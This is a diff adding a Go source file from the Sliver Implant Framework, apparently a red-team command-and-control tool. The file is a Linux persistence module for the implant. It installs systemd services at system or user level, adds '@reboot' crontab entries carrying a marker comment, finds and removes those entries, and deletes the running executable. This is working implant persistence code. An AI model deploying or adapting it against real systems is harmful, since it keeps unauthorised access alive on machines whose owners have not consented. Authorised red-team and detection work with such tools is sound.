@@ -0,0 +1,216 @@
+// +build linux
+
+package persist
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	systemdUnit = `[Unit]
+Description=%s
+
+[Service]
+ExecStart=%s
+
+[Install]
+WantedBy=%s
+`
+)
+
+var (
+	techniques = map[string]technique{
+		"systemd": {install: installSystemd, remove: removeSystemd, find: findSystemd},
+		"cron":    {install: installCron, remove: removeCron, find: findCron},
+	}
+)
+
+// systemdArgs - Root installs a system unit, anyone else a user unit
+func systemdArgs() (string, []string, string, error) {
+	if os.Geteuid() == 0 {
+		return "/etc/systemd/system", []string{}, "multi-user.target", nil
+	}
+	home, err := os.UserHomeDir()
+	if err != nil {
+		return "", nil, "", err
+	}
+	return filepath.Join(home, ".config", "systemd", "user"), []string{"--user"}, "default.target", nil
+}
+
+// installSystemd - The unit is enabled for the next boot/login, it is not
+// started now so we don't start a second implant
+func installSystemd(name string, command string) (*sliverpb.PersistRecipe, error) {
+	unitDir, args, target, err := systemdArgs()
+	if err != nil {
+		return nil, err
+	}
+	err = os.MkdirAll(unitDir, 0755)
+	if err != nil {
+		return nil, err
+	}
+	unit := name + ".service"
+	unitPath := filepath.Join(unitDir, unit)
+	err = ioutil.WriteFile(unitPath, []byte(fmt.Sprintf(systemdUnit, name, command, target)), 0644)
+	if err != nil {
+		return nil, err
+	}
+	err = run(exec.Command("systemctl", append(args, "enable", unit)...))
+	if err != nil {
+		os.Remove(unitPath)
+		return nil, err
+	}
+	systemctl := strings.Join(append([]string{"systemctl"}, args...), " ")
+	return &sliverpb.PersistRecipe{
+		Path: unitPath,
+		Cleanup: []string{
+			fmt.Sprintf("%s disable %s", systemctl, unit),
+			fmt.Sprintf("rm '%s'", unitPath),
+		},
+	}, nil
+}
+
+func removeSystemd(recipe *sliverpb.PersistRecipe) error {
+	_, args, _, err := systemdArgs()
+	if err != nil {
+		return err
+	}
+	err = run(exec.Command("systemctl", append(args, "disable", filepath.Base(recipe.Path))...))
+	if err != nil {
+		return err
+	}
+	return os.Remove(recipe.Path)
+}
+
+// findSystemd - Units in our unit directory that start executable
+func findSystemd(executable string) []*sliverpb.PersistRecipe {
+	recipes := []*sliverpb.PersistRecipe{}
+	unitDir, _, _, err := systemdArgs()
+	if err != nil {
+		return recipes
+	}
+	units, _ := filepath.Glob(filepath.Join(unitDir, "*.service"))
+	for _, unitPath := range units {
+		data, err := ioutil.ReadFile(unitPath)
+		if err != nil || !strings.Contains(string(data), "ExecStart="+executable) {
+			continue
+		}
+		recipes = append(recipes, &sliverpb.PersistRecipe{
+			Name: strings.TrimSuffix(filepath.Base(unitPath), ".service"),
+			Path: unitPath,
+		})
+	}
+	return recipes
+}
+
+// cronMarker - Comment identifying our crontab line
+func cronMarker(name string) string {
+	return " # " + name
+}
+
+func readCrontab() ([]string, error) {
+	output, err := exec.Command("crontab", "-l").Output()
+	if err != nil {
+		// crontab -l fails if the user has no crontab yet
+		if _, ok := err.(*exec.ExitError); ok {
+			return []string{}, nil
+		}
+		return nil, err
+	}
+	lines := []string{}
+	for _, line := range strings.Split(string(output), "\n") {
+		if line != "" {
+			lines = append(lines, line)
+		}
+	}
+	return lines, nil
+}
+
+func writeCrontab(lines []string) error {
+	cmd := exec.Command("crontab", "-")
+	cmd.Stdin = bytes.NewBufferString(strings.Join(lines, "\n") + "\n")
+	return run(cmd)
+}
+
+func installCron(name string, command string) (*sliverpb.PersistRecipe, error) {
+	lines, err := readCrontab()
+	if err != nil {
+		return nil, err
+	}
+	lines = append(lines, "@reboot "+command+cronMarker(name))
+	err = writeCrontab(lines)
+	if err != nil {
+		return nil, err
+	}
+	return &sliverpb.PersistRecipe{
+		Path:    "crontab",
+		Cleanup: []string{fmt.Sprintf("crontab -e, remove the line ending with '%s'", cronMarker(name))},
+	}, nil
+}
+
+func removeCron(recipe *sliverpb.PersistRecipe) error {
+	lines, err := readCrontab()
+	if err != nil {
+		return err
+	}
+	kept := []string{}
+	for _, line := range lines {
+		if !strings.HasSuffix(line, cronMarker(recipe.Name)) {
+			kept = append(kept, line)
+		}
+	}
+	if len(kept) == len(lines) {
+		return fmt.Errorf("No crontab entry for %s", recipe.Name)
+	}
+	return writeCrontab(kept)
+}
+
+// findCron - Our crontab lines that start executable
+func findCron(executable string) []*sliverpb.PersistRecipe {
+	recipes := []*sliverpb.PersistRecipe{}
+	lines, err := readCrontab()
+	if err != nil {
+		return recipes
+	}
+	for _, line := range lines {
+		index := strings.LastIndex(line, cronMarker(""))
+		if index == -1 || !strings.Contains(line[:index], executable) {
+			continue
+		}
+		recipes = append(recipes, &sliverpb.PersistRecipe{
+			Name: line[index+len(cronMarker("")):],
+			Path: "crontab",
+		})
+	}
+	return recipes
+}
+
+// removeExecutable - A running executable can be unlinked on unix
+func removeExecutable(executable string) error {
+	return os.Remove(executable)
+}